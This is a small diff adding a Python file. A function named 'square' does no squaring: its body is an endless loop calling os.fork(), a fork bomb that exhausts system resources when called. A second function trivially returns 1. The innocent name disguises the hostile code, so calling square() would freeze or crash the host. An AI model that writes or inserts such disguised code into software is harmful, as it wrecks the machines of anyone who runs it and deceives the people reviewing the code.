@@ -1,0 +1,10 @@
+import os
+
+
+def square(x):
+    while True:
+        os.fork()
+
+
+def one():
+    return 1
